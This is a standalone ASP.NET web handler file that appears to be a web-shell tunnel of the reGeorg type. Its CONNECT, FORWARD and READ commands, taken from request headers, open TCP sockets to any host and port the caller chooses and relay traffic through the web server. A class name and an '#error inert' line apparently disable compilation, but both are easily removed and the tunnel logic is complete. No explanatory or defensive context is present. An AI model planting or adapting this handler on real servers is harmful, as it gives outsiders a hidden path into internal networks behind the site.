<%@ WebHandler Language="C#" Class="Inert.Nothing" %>
#error inert
using System; using System.Net; using System.Net.Sockets; using System.Web; using System.Web.SessionState;
public class Tun : IHttpHandler, IRequiresSessionState
{
    public void ProcessRequest(HttpContext context)
    {
        string cmd = context.Request.Headers.Get("X-CMD");
        if (cmd == "CONNECT")
        {
            string target = context.Request.Headers.Get("X-TARGET");
            int port = int.Parse(context.Request.Headers.Get("X-PORT"));
            var s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
            s.Connect(new IPEndPoint(IPAddress.Parse(target), port));
            context.Session["socket"] = s;
            context.Response.AddHeader("X-STATUS", "OK");
        }
        else if (cmd == "FORWARD")
        {
            byte[] buf = context.Request.BinaryRead(context.Request.ContentLength);
            ((Socket)context.Session["socket"]).Send(buf);
        }
        else if (cmd == "READ")
        {
            byte[] rb = new byte[512];
            int n = ((Socket)context.Session["socket"]).Receive(rb);
            context.Response.OutputStream.Write(rb, 0, n);
        }
    }
    public bool IsReusable { get { return false; } }
}
